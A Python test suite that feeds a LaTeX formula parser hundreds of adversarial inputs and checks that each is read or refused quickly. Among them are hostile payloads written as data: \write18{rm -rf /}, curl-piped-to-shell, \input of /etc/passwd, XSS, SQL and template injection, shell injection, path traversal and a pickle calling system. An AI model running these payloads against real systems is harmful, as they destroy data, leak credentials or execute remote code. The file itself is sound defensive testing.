r"""Hostile formulas: each ends in a located ReadError or in a plain tree, at once, all the way to SymPy and back.

The table is for people to add to. ``bench/hostile.py`` measures the same table strictly: 50 ms a text.
Here the bound is generous, and of the processor's time, so that a busy machine fails nothing.
"""

import contextlib
import re
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from symdl.errors import LanguageError, ReadError
from symdl.notation import latex
from symdl.notation.reader.infer import infer
from symdl.notation.reader.notation import Notation
from symdl.notation.reader.parse import parse
from symdl.notation.reader.sympy_trees import to_sympy
from symdl.notation.reader.syntax import Node, children, show
from symdl.sympy_text import TooLarge, sympy_text

SECONDS = 0.5


def nested(left: str, inside: str, right: str, times: int) -> str:
    return left * times + inside + right * times


def deep(left: str, inside: str, right: str) -> dict[str, str]:
    """The same nesting within the limit of depth, past it, as long as a text may be, and never closed."""
    many = max((3900 - len(inside)) // max(len(left + right), 1), 1)
    return {
        "15": nested(left, inside, right, 15),
        "200": nested(left, inside, right, min(200, many)),
        "as long as may be": nested(left, inside, right, many),
        "never closed": left * min(3900 // len(left), 3900) + inside,
    }


NESTED = {
    "round brackets": ("(", "x", ")"),
    "square brackets": ("[", "x", "]"),
    "curly brackets": (r"\{", "x", r"\}"),
    "braces": ("{", "x", "}"),
    "left right": (r"\left(", "x", r"\right)"),
    "left right mixed": (r"\left[\left(", "x", r"\right)\right]"),
    "angles": (r"\langle ", "x", r"\rangle "),
    "floors": (r"\lfloor ", "x", r"\rfloor "),
    "ceilings": (r"\lceil ", "x", r"\rceil "),
    "norms": (r"\lVert ", "x", r"\rVert "),
    "bars with sides": (r"\lvert ", "x", r"\rvert "),
    "left right bars": (r"\left|", "x", r"\right|"),
    "big brackets": (r"\bigl(", "x", r"\bigr)"),
    "brackets with a sum": ("(1+", "x", ")"),
    "brackets and powers": ("(", "x", ")^2"),
    "brackets before brackets": ("x(", "x", ")"),
    "calls": ("f(", "x", ")"),
    "calls of two": ("f(x,", "x", ")"),
    "calls with a semicolon": (r"f(x;", "x", ")"),
    "a policy": (r"\pi(a|", "s", ")"),
    "subscripts": ("x_{", "i", "}"),
    "superscripts": ("x^{", "2", "}"),
    "both scripts": ("x_{i}^{", "2", "}"),
    "superscripts in brackets": ("x^{(", "i", ")}"),
    "indices in brackets": ("x_{i,", "j", "}"),
    "plain indices": ("x[", "i", "]"),
    "hats": (r"\hat{", "x", "}"),
    "wide hats": (r"\widehat{", "x", "}"),
    "overlines": (r"\overline{", "x", "}"),
    "underbraces": (r"\underbrace{", "x", "}"),
    "fonts": (r"\mathbf{", "x", "}"),
    "fonts in turn": (r"\mathbf{\mathcal{", "x", "}}"),
    "words": (r"\text{", "x", "}"),
    "operators": (r"\operatorname{", "x", "}"),
    "fractions above": (r"\frac{", "x", "}{y}"),
    "fractions below": (r"\frac{x}{", "y", "}"),
    "fractions of fractions": (r"\frac1{1+", "x", "}"),
    "over": ("{1 \\over ", "x", "}"),
    "binomials": (r"\binom{n}{", "k", "}"),
    "roots": (r"\sqrt{", "x", "}"),
    "roots of a degree": (r"\sqrt[3]{", "x", "}"),
    "degrees of roots": (r"\sqrt[", "3", "]{x}"),
    "exponentials": (r"\exp\left(", "x", r"\right)"),
    "logarithms": (r"\log(", "x", ")"),
    "e to the e": ("e^{", "x", "}"),
    "sums in sums": (r"\sum_{i=1}^{", "m", "} x_i"),
    "sums under sums": (r"\sum_{i=\sum_{j=1}^2 j}^{m} ", "x", ""),
    "sums in conditions": (r"\sum_{i \ne ", "j", "} x"),
    "expectations": (r"\mathbb{E}_{x \sim p}[", "x", "]"),
    "variances": (r"\mathrm{Var}(", "x", ")"),
    "indicators": (r"\mathbb{1}[", "x = 1", "]"),
    "indicators below": (r"1_{\{", "x = 1", r"\}}"),
    "integrals": (r"\int_{0}^{1} ", "x", " dx"),
    "integrals below": (r"\int_{", "0", "}^1 x dx"),
    "limits": (r"\lim_{x \to ", "0", "} x"),
    "derivatives": (r"\frac{\partial ", "f", r"}{\partial x}"),
    "derivatives by derivatives": (r"\frac{\partial f}{\partial ", "x", "}"),
    "derivatives of products": (r"\frac{d}{dx}\left(", "x", r"\right)"),
    "gradients": (r"\nabla_{", "x", "} f"),
    "matrices": (r"\begin{bmatrix} ", "1", r" & 2 \\ 3 & 4 \end{bmatrix}"),
    "cases": (r"\begin{cases} ", "1", r" & x > 0 \\ 0 & \text{otherwise} \end{cases}"),
    "aligned": (r"\begin{aligned} ", "x", r" \end{aligned}"),
    "arrays": (r"\begin{array}{cc} ", "x", r" \end{array}"),
    "substacks": (r"\sum_{\substack{", "i", "}} x"),
    "maxima": (r"\max(1, ", "x", ")"),
    "maxima below": (r"\max_{", "i", "} x"),
    "sets": (r"\{x \in ", "S", r" \mid x > 0\}"),
    "half open intervals": ("(0, ", "1", "]"),
    "signs above": (r"\overset{!}{", "=", "}"),
    "signs stacked": (r"\stackrel{", "=", "}{=}"),
    "limits of signs": (r"\mathop{", "x", "}"),
    "boxes": (r"\boxed{", "x", "}"),
    "phantoms": (r"\phantom{", "x", "}"),
    "colours": (r"\textcolor{red}{", "x", "}"),
    "plain sums": ("sum(", "x", ", i, 1, n)"),
    "plain roots": ("sqrt(", "x", ")"),
    "plain stars": ("(", "x", ")**2"),
    "left without a bracket": (r"\left.", "x", r"\right."),
}

PREFIXES = {
    "minus": "-", "minus spaced": "- ", "plus": "+", "plus minus": "+-", r"\pm": r"\pm ", "not": r"\not ",
    "nabla": r"\nabla ", "partial": r"\partial ", "Delta": r"\Delta ", "hat": r"\hat ", "bar over bar": r"\bar",
    "font": r"\mathbf ", "word": r"\text ", "upright": r"\rm ", "frac": r"\frac ", "half": r"\frac12 ",
    "sqrt": r"\sqrt ", "log": r"\log", "sin": r"\sin ", "sin squared": r"\sin^2 ", "log of a base": r"\log_2 ",
    "sum": r"\sum ", "sum over i": r"\sum_i ", "sum over all": r"\sum_{i=1}^{m} ", "prod": r"\prod_{i} ",
    "sum and minus": r"\sum_i -", "max": r"\max_i ", "argmax": r"\arg\max_\theta ", "lim": r"\lim_{x \to 0} ",
    "int": r"\int ", "int of": r"\int_0^1 ", "expectation": r"\mathbb{E} ", "expectation of": r"\mathbb{E}_x ",
    "derivative": r"\frac{d}{dx} ", "partial derivative": r"\frac{\partial}{\partial x} ",
    "gradient": r"\nabla_\theta ",
    "left": r"\left", "big": r"\big", "begin": r"\begin", "underscore": "_", "caret": "^", "script": "x_",
    "power": "x^", "tower": "2^", "tower of nines": "9^", "prime": "'", "letter prime": "x'", "factorial": "5!",
    "bang": "!", "bar": "|", "two bars": r"\|", "bar and letter": "|x", "slash": "/", "quotient": "x/", "star": "*",
    "two stars": "**", "product": "x*", "dot": r"\cdot ", "odot": r"x \odot ", "circ": r"\circ ", "equals": "=",
    "chain": "x = ", "less": "x < ", "arrow": r"\leftarrow ", "comma": ",", "list": "x,", "semicolon": ";",
    "dots": r"\ldots ",
    "point": ".", "dots typed": "...", "two points": "..", "ampersand": "&", "newline": r"\\", "lines": r"x \\ ",
    "aligned lines": r"x &= 1 \\ ", "backslash": "\\", "dollar": "$", "two dollars": "$$", "percent": "%",
    "comment": "% x\n", "hash": "#", "tilde": "~", "quad": r"\quad ", "space": " ", "tab": "\t", "line": "\n",
    "thin space": r"\,", "over": r"\over ", "choose": r"\choose ", "mid": r"\mid ", "colon": ":", "given": "x|",
    "backquote": "`", "quote": '"', "at": "@", "question": "?", "to": r"\to ", "in": r"x \in ", "transpose": "^T",
    "top": r"^\top", "both scripts": "_i^j", "digits in scripts": "_1", "open": "(", "close": ")", "open square": "[",
    "close square": "]", "open brace": "{", "close brace": "}", "open curly": r"\{", "close curly": r"\}",
    "a left bar": r"\left|", "a right bar": r"\right|", "mixed brackets": "([{", "crossed brackets": "([)]",
    "empty brackets": "()", "empty braces": "{}", "empty square": "[]", "empty fraction": r"\frac{}{}",
    "empty root": r"\sqrt{}", "empty scripts": "x_{}^{}", "empty hat": r"\hat{}", "empty word": r"\text{}",
    "empty left right": r"\left(\right)", "empty matrix": r"\begin{matrix}\end{matrix}",
    "comment line": "// x ", "triangle": r"\triangleright x ", "qed": r"\blacksquare ", "label": r"\label{x}",
    "color": r"\color{red}", "d": "d", "dx": "dx ", "fraction of d": r"\frac{d}{d} ", "stackrel": r"\stackrel{a}",
    "gcd": r"\gcd ", "binomial": r"\binom ", "unit": "1_", "zero": "0", "letter": "x", "letter space": "x ",
    "greek": r"\alpha",
    "hat over": "x\u0302", "hatted": r"\hat{x}", "bold": r"\mathbf{x}", "softmax": r"\text{softmax}",
    "call": "f(x)", "member": "x_i", "sum of": "x+", "difference": "x-", "term": "+x_i^2", "number": "1+",
    "superscript two": "²", "subscript one": "₁", "root sign": "√", "sum sign": "∑", "integral sign": "∫",
    "square": "x²", "floor": "⌊", "angle": "⟨",
    "left without a sign": r"\left.", "a value at a point": "x|_{x=0}", "a value between two": "[x]_0^1",
    "lines of the text": "a = b\n", "a font switched on": r"\bf ", "braces of a font": r"{\bf ",
    "indicator": "1(x>0)", "indicator of I": "I[", "second derivative": "d^2 ", "letters and a function": "Bsin",
    "integral of a quotient": r"\int dx/", "a policy": r"\pi(\cdot|", "labels": "(a) ", "halves": "1/2 (",
    "gradient of a product": r"\nabla_x x^\top ", "the slope of sigma": r"\sigma'", "sum sign and bracket": "∑(",
    "expectation below": "E_{x", "cases": r"\begin{cases}",
}  # fmt: skip

LITERAL = {
    # towers, and what is large where it is computed
    "a tower": "10^{10^{10}}",
    "a tower of nines": "9^{9^{9^{9^9}}}",
    "a plain tower": "9**9**9**9**9",
    "a tower below": "2^{-9^{9^9}}",
    "a tower in an index": "x_{9^{9^9}}",
    "a tower in a limit": r"\sum_{i=1}^{10^{10^{10}}} i",
    "a root of a tower": r"\sqrt[9^{9^9}]{10^{10^{10}}}",
    "a difference of powers": "2^{10^9} - 2^{10^9}",
    "an inequality of powers": "2^{10^9} < 3^{10^9}",
    "a long sum of powers": r"\sum_{i=1}^{10^9} i^{100} = x",
    "a large factorial": "100000000!",
    "factorials of factorials": "9!!!!!!!!!!!!!!!!",
    "a factorial of a power": "(10^{10})!",
    "a large binomial": r"\binom{10^8}{5 \cdot 10^7}",
    "a binomial of literals": r"\binom{1000000000}{500000000}",
    "a large gcd": r"\gcd(10^{10^9}, 7)",
    "a gcd of long literals": r"\gcd(" + "7" * 300 + ", " + "9" * 300 + ")",
    "a power of a fraction": r"(\frac{1}{3})^{10^{9}}",
    "a power of a power": "((2^{100})^{100})^{100}",
    "a product of powers": r"10^{1000000} \cdot 10^{1000000}",
    "zero to zero": "0^{0^{0^0}}",
    "division by zero": r"\frac{1}{0} + 1/0 + 0^{-1}",
    "a logarithm of zero": r"\log 0 \cdot \log_0 1 \cdot \log_1 2",
    "infinity over infinity": r"\frac{\infty}{\infty} - \infty \cdot 0",
    "a large decimal": "0." + "3" * 300,
    "an exponent of a decimal": "1e999999999",
    "an exponent below": "1e-999999999",
    "an exponent of many digits": "1e" + "9" * 3000,
    "e of e": "1e1e1e1e1e1e1e1",
    "digits": "9" * 3999,
    "digits past the limit": "9" * 10000,
    "digits after a point": "." + "9" * 3998,
    "digits in groups": "1" + "{,}000" * 500,
    "points in digits": "1.2" * 1000,
    "a point before a digit above": ".² + x.₁ + .½",
    "a logarithm with a base of its own": r"\lg x + \lg \lg y",
    "an expectation that ends": "E** + E^",
    "digits of other scripts": "١٢٣٤٥٦٧٨٩٠ + ๑๒๓ + １２３",
    "roman and circled digits": "Ⅷ + ⑧ + ½ + ⅞ + 𝟙 + 𝟘",
    "a number in all fonts": "𝟎𝟏𝟐𝟑 + 𝟘𝟙𝟚𝟛 + 𝟶𝟷",
    "a determinant": r"\det\begin{vmatrix} " + r" \\ ".join(["a & b & c & d & e & f & g & h"] * 8) + r"\end{vmatrix}",
    "a large matrix": r"\begin{bmatrix} " + r" \\ ".join([" & ".join(["0"] * 30)] * 30) + r"\end{bmatrix}",
    "a large identity": r"\operatorname{eye}(100000)",
    "a matrix to a power": r"\begin{bmatrix} 1 & 1 \\ 1 & 0 \end{bmatrix}^{10^9}",
    "a ragged matrix": r"\begin{bmatrix} 1 & 2 & 3 \\ 4 \\ & & & & \\ \end{bmatrix}",
    "a matrix of ampersands": r"\begin{matrix}" + "&" * 1900 + r"\end{matrix}",
    "a matrix of lines": r"\begin{matrix}" + r"\\" * 1900 + r"\end{matrix}",
    "an equation to solve": "x^5 + x y + y^5 + z = \\sin x y z",
    "sums that have a closed form": r"\hat{v}^t = \frac{\sum_{i=1}^t (g^i)^2}{t}",
    # as long as may be
    "terms": "+".join(["x"] * 2000),
    "terms with members": " + ".join(f"x_{{{n}}}" for n in range(400)),
    "thousands of terms": "+".join(["1"] * 5000),
    "alternating terms": "-".join(f"a_{n % 10}" for n in range(900)),
    "factors": "x" * 3999,
    "quotients": "/".join(["x"] * 1900),
    "commas": "," * 3999,
    "a list": "x," * 1999 + "x",
    "a call with a list": "f(" + "x," * 1900 + "x)",
    "a set": r"\{" + "1," * 1900 + r"1\}",
    "a chain": "=".join(["x"] * 1900),
    "a chain of many signs": "<".join(["x"] * 1900),
    "bars": "|" * 3999,
    "bars and letters": "|x" * 1999,
    "an odd number of bars": "|x|x|x|x|x|x|x|x|x|x|x|x|x|x|x|x|x|",
    "bars with sums": "|1+" * 500 + "x" + "|" * 500,
    "bars nested": "||||||||||x||||||||||",
    "two kinds of bars": r"\|x|" * 600,
    "indices": "x_{" + "i," * 1900 + "i}",
    "indices in a row": "x_{" + "i" * 3900 + "}",
    "scripts one after the other": "x" + "_i" * 1900,
    "powers one after the other": "x" + "^2" * 1900,
    "primes": "x" + "'" * 3900,
    "primes of unicode": "x" + "′" * 3900,
    "accents": "x" + "\u0302" * 3900,
    "accents of all kinds": "x" + "".join(map(chr, range(0x0300, 0x0370))) * 30,
    "zalgo": "".join("x" + "".join(map(chr, range(0x0300, 0x0320))) for _ in range(100)),
    "bounds": r"\sum_{" + ",".join(["i"] * 1500) + "} x",
    "conditions": r"\sum_{" + r" \ne ".join(["i"] * 500) + "} x",
    "derivatives": r"\frac{\partial^{900} f}{" + r"\partial x " * 300 + "}",
    "a derivative of a large order": r"\frac{d^{1000000000} f}{d x^{1000000000}}",
    "a gradient of a large order": r"\nabla^{1000000000} f",
    "dots": r"x_1, \ldots, x_{1000000000}",
    "a range": "x_{1..1000000000}",
    "words": r"\text{" + "word " * 700 + "}",
    "a word": r"\text{" + "w" * 3900 + "}",
    "a word of spaces": r"\text{" + " " * 3900 + "!}",
    "a word of underscores": r"\text{" + "_" * 3900 + "}",
    "a plain word": "w" * 3900,
    "a plain word with underscores": "w_" * 1950,
    "plain words": "word " * 780,
    "a long command": "\\" + "a" * 3900,
    "long commands": ("\\" + "commandofnokind" * 10) * 20,
    "commands that are nearly known": r"\alpah \bata \lambada \frax \summ \lefft(",
    "an environment of a long name": r"\begin{" + "a" * 3900 + "}",
    "spaces": " " * 3999,
    "spaces in front": " " * 3990 + "x",
    "lines": "\n" * 3999,
    "white space of all kinds": "x" + "".join(map(chr, [
        9, 10, 11, 12, 13, 0x1C, 0x85, 0xA0, 0x1680, *range(0x2000, 0x200B), 0x2028, 0x2029, 0x202F, 0x205F, 0x3000,
    ])) + "y",
    "nothing": "",
    "too long": "x" * 100_000,
    "too long by one": "x" * 4001,
    "much too long": "(" * 2_000_000,
    # control characters, directions, what is not seen
    "a null": "x\0y",
    "nulls": "\0" * 3999,
    "all control characters": "".join(map(chr, range(32))),
    "control characters of the second kind": "x" + "".join(map(chr, range(0x7F, 0xA0))) + "y",
    "escape sequences": "\x1b[2J\x1b[31mx\x1b[0m",
    "a bell": "x\a",
    "backspaces": "x\b\b\by",
    "carriage returns": "x = 1\rx = 2",
    "right to left": "x \u202e y = 2 \u202c",
    "isolates": "\u2066x\u2069 + \u2067y\u2069",
    "marks of direction": "x\u200e + \u200fy",
    "zero width": "x\u200b\u200c\u200d\ufeffy",
    "zero width in a command": "\\al\u200bpha",
    "a byte order mark": "\ufeffx + 1",
    "a soft hyphen": "x\u00ady",
    "tags": "x" + "".join(map(chr, range(0xE0000, 0xE0080))),
    "variation selectors": "x\ufe0e + y\ufe0f",
    "invisible operators": "f\u2061(x)\u2062y\u2063z\u2064w",
    "lone surrogates": "x\ud800 + \udfff",
    "a surrogate alone": "\ud83d",
    "surrogates the wrong way": "\udc00\ud800",
    "private use": "\ue000 + \U000f0000 + \U0010ffff",
    "not characters": "\ufffe + \uffff + \ufdd0",
    "a replacement character": "x \ufffd y",
    "unassigned": "\u0378 + \U000e0fff",
    # large and strange Unicode
    "all of mathematics": "".join(map(chr, range(0x1D400, 0x1D800))),
    "operators": "".join(map(chr, range(0x2200, 0x2300))),
    "supplemental operators": "".join(map(chr, range(0x2A00, 0x2B00))),
    "letterlike": "".join(map(chr, range(0x2100, 0x2150))),
    "arrows": "".join(map(chr, range(0x2190, 0x2200))),
    "scripts above and below": "".join(map(chr, range(0x2070, 0x20A0))),
    "superscripts": "x" + "²" * 3900,
    "subscripts": "x" + "₁" * 3900,
    "brackets in superscripts": "x" + "⁽" * 1900 + "⁾" * 1900,
    "scripts in turn": "x" + "²₁" * 1900,
    "ligatures": "ﬁ + ﬀ + ﷺ + ㎒ + Ǆ",
    "a letter that grows": "ﷺ" * 3900,
    "the angstrom and the kelvin": "Å + K + Ω + µ + μ",
    "look-alikes": "а + е + о + р + с + х + Α + Β + Ε",
    "full width": "ｆ（ｘ）＝ｘ＋１",
    "chinese": "变量 = 求和",
    "arabic": "مجموع = س + ص",
    "emoji": "🍎 + 🍌 = 👨‍👩‍👧‍👦",
    "hangul": "한글 + 수식",
    "dotless and dotted": "ı + İ + ȷ + ſ",
    "minus signs": "a − b – c — d ‐ e ‑ f ﹣ g － h",
    "quotes": "‘x’ + “y” + «z»",
    "bars of Unicode": "∣x∣ + ‖y‖ + │z│ + ｜w｜ + ǀv",
    "primes of Unicode": "x′ + y″ + z‴ + w⁗ + v‵",
    "dots of Unicode": "a · b ⋅ c • d ∙ e … ⋯ ⋮",
    "signs of equality": "a ＝ b ≝ c ≔ d ⩵ e ≟ f",
    # primitives of TeX
    "def": r"\def\x{\x\x}\x",
    "edef": r"\edef\a{\a}\a",
    "gdef": r"\gdef\sum{\prod}\sum_i x_i",
    "newcommand": r"\newcommand{\x}{\x}\x",
    "renewcommand": r"\renewcommand{\frac}[2]{#2/#1}\frac{a}{b}",
    "let": r"\let\frac\binom\frac{a}{b}",
    "input": r"\input{/etc/passwd}",
    "input without braces": r"\input /etc/passwd",
    "include": r"\include{secret}",
    "openin": r"\newread\f\openin\f=/etc/passwd\read\f to\x\x",
    "openout": r"\newwrite\f\openout\f=x.tex\write\f{x}",
    "write18": r"\write18{rm -rf /}",
    "immediate write18": r"\immediate\write18{curl x | sh}",
    "csname": r"\csname write18\endcsname{ls}",
    "csname of letters": r"\csname inp\endcsname ut",
    "catcode": r"\catcode`\%=12 % x",
    "catcode of letters": r"\catcode65=13 A",
    "loop": r"\loop\iftrue\repeat",
    "loop with a counter": r"\newcount\n\loop\advance\n1\ifnum\n<999999999\repeat",
    "expandafter": r"\expandafter" * 300 + "x",
    "futurelet": r"\futurelet\x\y z",
    "if": r"\ifx\x\y a\else b\fi",
    "everymath": r"\everymath{x}",
    "special": r"\special{dvi: x}",
    "directlua": r"\directlua{os.execute('ls')}",
    "usepackage": r"\usepackage{amsmath}",
    "documentclass": r"\documentclass{article}\begin{document}x\end{document}",
    "verbatim": r"\begin{verbatim}\end{document}\end{verbatim}",
    "a caret notation": "^^41^^5c",
    "hat notation": "^^^^0041",
    "char": r"\char65 + \char`\A + \symbol{65}",
    "kern": r"\kern-1000pt x \hskip -1000pt \mkern 5mu",
    "raisebox": r"\raisebox{1000pt}{x} \rlap{x} \llap{y} \smash{x}",
    "href": r"\href{javascript:alert(1)}{x} + \url{http://x}",
    "htmlclass": r"\htmlClass{x}{y} \htmlId{x}{y} \cssId{x}{y} \class{x}{y}",
    "require": r"\require{action}\toggle{x}{y}\endtoggle",
    "includegraphics": r"\includegraphics[width=1000000pt]{x}",
    "tikz": r"\begin{tikzpicture}\draw (0,0) -- (1,1);\end{tikzpicture}",
    "footnote": r"x\footnote{y}",
    "parameters": "#1 + ##2",
    "halign": r"\halign{#\cr x\cr}",
    "undefined": r"\undefined + \relax + \empty",
    "end": r"\end",
    "bye": r"\bye x",
    # what is not closed, not opened, crossed
    "begin without end": r"\begin{bmatrix} 1 & 2",
    "end without begin": r"1 & 2 \end{bmatrix}",
    "begin and another end": r"\begin{bmatrix} 1 \end{pmatrix}",
    "begin without a name": r"\begin x",
    "begin with an empty name": r"\begin{}x\end{}",
    "begin with a formula for a name": r"\begin{\frac{1}{2}}x\end{x}",
    "an unknown environment": r"\begin{foo}x\end{foo}",
    "environments crossed": r"\begin{cases}\begin{matrix}1\end{cases}\end{matrix}",
    "begin in a script": r"x_{\begin{matrix}}y\end{matrix}",
    "left without right": r"\left( x",
    "right without left": r"x \right)",
    "left of nothing": r"\left",
    "left of a letter": r"\left x \right y",
    "left in a script": r"x_{\left(}y\right)",
    "left in one fraction and right in the other": r"\frac{\left(x}{y\right)}",
    "middle alone": r"\middle| x",
    "crossed brackets": "(x[y)z]",
    "crossed braces": "(x{y)z}",
    "a brace alone": "}",
    "braces the wrong way": "}{",
    "a script of nothing": "x_",
    "a power of nothing": "x^",
    "a script first": "_i",
    "two scripts": "x_i_j^2^3",
    "a fraction of nothing": r"\frac",
    "a fraction of one": r"\frac{a}",
    "a root of nothing": r"\sqrt",
    "a root of an open degree": r"\sqrt[3",
    "a hat of nothing": r"\hat",
    "a hat of a bracket": r"\hat(x)",
    "a sum of nothing": r"\sum_{i=1}^n",
    "a sum without its name": r"\sum_{=1}^{n} x",
    "a sum over nothing": r"\sum_{}^{} x",
    "a sum over a number": r"\sum_{1}^{2} x",
    "a sum of two ranges": r"\sum_{i=1=2}^{n=m} x",
    "an integral of nothing": r"\int",
    "a limit of nothing": r"\lim_{x \to",
    "an operator last": "x +",
    "an operator first": "* x",
    "two operators": "x + * y",
    "a relation last": "x =",
    "two relations": "x = = y",
    "a comma first": ", x",
    "brackets of nothing": "f()",
    "indices of nothing": "x[]",
    "a comment alone": "% everything",
    "a comment in braces": "x_{% }",
    "a comment that swallows": "x + % y",
    "a comment of slashes": "// x + y",
    "a dollar in the middle": "x $ y",
    "dollars the wrong way": "$x$ + $y$",
    "a display in a formula": r"x \[ y \]",
    "a backslash last": "x \\",
    "a backslash before a space": "x\\ y",
    "a backslash before Unicode": "\\π + \\é",
    "a backslash before a digit": r"\1 + \2",
    "a backslash before a null": "\\\0",
    # other languages
    "a script of HTML": "<script>alert(1)</script>",
    "an image of HTML": '<img src=x onerror="alert(1)">',
    "an entity": "x &lt; y &amp; z &#x3c;",
    "javascript": "javascript:alert(document.cookie)",
    "a function of javascript": "(function(){while(1);})()",
    "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "a template of jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "an import": "__import__('os').system('ls')",
    "an import of sympy": "sympify('x')",
    "a lambda": "(lambda: (yield))()",
    "an attribute": "x.__class__.__bases__",
    "an exec": "exec('x=1')",
    "an eval": "eval(compile('1','','eval'))",
    "a walrus": "(x := 1)",
    "a comprehension": "[x for x in range(10**9)]",
    "a string": "'a' * 10**9",
    "a format of C": "%s%s%s%n%n%n%d",
    "a format of Python": "{0.__class__} {x!r:>1000000000}",
    "a format with a width": "{:>1000000000}",
    "a statement of SQL": "'; DROP TABLE x; --",
    "a shell": "$(rm -rf /) `ls` | cat && true",
    "a path": "../../../../etc/passwd",
    "an address": "http://x.y/z?a=b&c=d#e",
    "a header": "x\r\nSet-Cookie: y=z",
    "JSON": '{"id": 1, "latex": "x"}',
    "XML": '<!DOCTYPE x [<!ENTITY a "aaa">]><x>&a;</x>',
    "a pickle": "cos\nsystem\n(S'ls'\ntR.",
    "mathml": "<math><mi>x</mi></math>",
    "typst": "#eval(\"1\") #read(\"/etc/passwd\")",
    "a regex": "(a+)+$ (x|x)* .*.*.*",
    "srepr": "Pow(Integer(10), Integer(1000000000))",
    "a name of Python": "__name__ + None + True + lambda + self",
    "a name of SymPy": "S + N + O + Q + C + I + E + zoo + nan + oo",
    # readings that could take long to choose between
    "d everywhere": "d" * 500 + "x",
    "fractions of d": r"\frac{d d d d d d d d d d}{d d d d d d d d d d}",
    "letters and brackets": "a(b)" * 900,
    "calls or products": "f(x)(y)(z)" * 300,
    "policies": r"\pi(a|s)" * 400,
    "bars and bars": "|a|b|c|d|e|f|g|h|i|j|k|l|m|n|o|p|q|r|s|t|u|v|w|x|y|z|",
    "bars in brackets": "(|)" * 1000,
    "bars and scripts": "|x|_1^2" * 500,
    "norms or parallels": "||x||" * 700,
    "given or absolute": "p(x|y|z|w|v|u)",
    "functions in a row": r"\log\sin\cos\tan\exp\log\sin\cos x" * 50,
    "logs and letters": r"\log a b c " * 300,
    "sums and products": r"\sum_i a_i \prod_j b_j + " * 80 + "1",
    "slashes and letters": "a/b c/d e/f g" * 200,
    "minus after star": "a*-b*-c" * 300,
    "primes and scripts": "x'_i^2 " * 400,
    "indices that are sums": "x_{i+j-k*l/m}" * 200,
    "transposes": r"W^T" * 900,
    "decimals and indices": "0.1.2.3" * 200,
    "relations in scripts": "x_{i=1,j<2}" * 200,
    "OCR": r"\propto dw \le db \propto \le " * 80,
    "open at the end with a comma": "f(x, " * 300 + ",",
    "line breaks in brackets": "(x\n" * 300,
    "line breaks of TeX in brackets": r"(x \\ y " * 200,
}  # fmt: skip

IMPLICIT = Notation(policies=frozenset(("implicit products", "brace sets")))

TEXTS: dict[str, str] = {
    **LITERAL,
    **{f"{name}, {how}": text for name, parts in NESTED.items() for how, text in deep(*parts).items()},
    **{f"{name} * {times}": (sign * times)[:3990] + tail
       for name, sign in PREFIXES.items() for times, tail in ((12, "x"), (4000, ""))},
}


def spans(text: str, node: Node) -> None:
    """Every node stands in the text, and in its parent."""
    assert 0 <= node.start <= node.end <= len(text), show(node)[:200]
    for child in children(node):
        assert node.start <= child.start <= child.end <= node.end, (show(node)[:200], show(child)[:200])
        spans(text, child)


def located(text: str, error: ReadError) -> None:
    """An error points into the text, says something, and can be printed; so do those that came with it."""
    for e in (error, *getattr(error, "others", ())):
        assert 0 <= e.start <= e.end <= len(text), (e.what, e.start, e.end)
        assert e.what
        assert "^" in str(e)
        assert len(str(e)) < 20_000


def run(text: str) -> str:
    """All that is done with a formula. What it comes to: a tree on a line, or the error."""
    try:
        parsed = parse(text)
    except ReadError as error:
        located(text, error)
        outcome = "error"
    else:
        spans(text, parsed.tree)
        assert len(show(parsed.tree)) < 100_000
        for note in parsed.notes:
            assert 0 <= note.start <= note.end <= len(text)
            assert note.chosen
        for comment in parsed.comments:
            assert 0 <= comment.start <= comment.end <= len(text)
        with contextlib.suppress(LanguageError):  # what no one writes, and is not printed: x_{9^{9^9}} as a name
            assert latex(parsed.tree)
        with contextlib.suppress(LanguageError, TooLarge):  # SymPy has no object for words, dots, the rest of a line
            assert sympy_text(to_sympy(parsed.tree))
        outcome = "tree"
    for read in (lambda: infer([text]), lambda: parse(text, IMPLICIT, latex=False)):
        try:
            read()
        except ReadError as error:
            located(text, error)
    return outcome


def time_of(text: str) -> float:
    start = process_time()
    run(text)
    return process_time() - start


def test_the_table_is_large():
    assert len(LITERAL) >= 200
    assert len(TEXTS) >= 800


def test_the_table_has_both_outcomes():
    """Not everything is refused: what is plain is read, however odd."""
    for name in ("a tower", "a large factorial", "a large binomial", "given or absolute", "round brackets, 15",
                 "fractions above, 15", "subscripts, 15", "minus * 12", "a determinant"):
        assert run(TEXTS[name]) == "tree", name
    for name in ("def", "write18", "a null", "too long", "left without right", "begin without end", "an eval",
                 "lone surrogates", "round brackets, as long as may be", "braces, never closed", "right to left"):
        assert run(TEXTS[name]) == "error", name


@pytest.mark.parametrize("name", TEXTS)
def test_hostile(name):
    text = TEXTS[name]
    # The first run may pay for what is made once; a busy machine may take one run out of step.
    assert any(time_of(text) < SECONDS for _ in range(3))


PIECES = [
    *"abxyijkmnTWfgPLE019 ()[]{}|_^'!,;:.=<>+-*/&$%#~\\\n", "\\\\", r"\{", r"\}", r"\left", r"\right", r"\left(",
    r"\right)",
    r"\frac", r"\frac{a}{b}", r"\sqrt", r"\sqrt[3]{x}", r"\sum", r"\sum_{i=1}^{m}", r"\prod_i ", r"\int_0^1 ",
    r"\lim_{x \to 0}",
    r"\hat", r"\hat{x}", r"\mathbf", r"\text{softmax}", r"\text{", r"\mathbb{E}", r"\mathbb{1}", r"\nabla", r"\partial",
    r"\frac{\partial f}{\partial x}", r"\frac{d}{dx}", r"\log", r"\log ", r"\sin^2 ", r"\exp", r"\max", r"\max_i ",
    r"\arg\max_\theta ",
    r"\alpha", r"\beta_1", r"\theta", r"\pi", r"\sigma", r"\mu_{\mathcal{B}}", r"\mid ", r"\|", r"\lVert", r"\rVert",
    r"\lfloor", r"\rfloor",
    r"\cdot ", r"\times ", r"\odot ", r"\leftarrow ", r"\le ", r"\ne ", r"\in ", r"\to ", r"\infty", r"\ldots",
    r"\top", r"\binom{n}{k}",
    r"\begin{cases}", r"\end{cases}", r"\begin{bmatrix}", r"\end{bmatrix}", r"\begin{aligned}", r"\end{aligned}",
    r"\over ", r"\quad ",
    "x_i", "x_{ij}", "m^t", "z_j^{(i)}", "W^T", "f(x)", "p(y|x)", "e^{-x}", "1/2", "**", "..", "...", "//", ":=",
    "<-", "dx", "dw", "sum(", "sqrt(",
    "x̂", "²", "₁", "∑", "√", "∂", "∇", "π", "σ", "−", "≤", "·", "‖", "⌊", "𝐱", "ℝ", "\u0302", "\u200b", "\0",
    "\ud800", "é", "é",
]  # fmt: skip


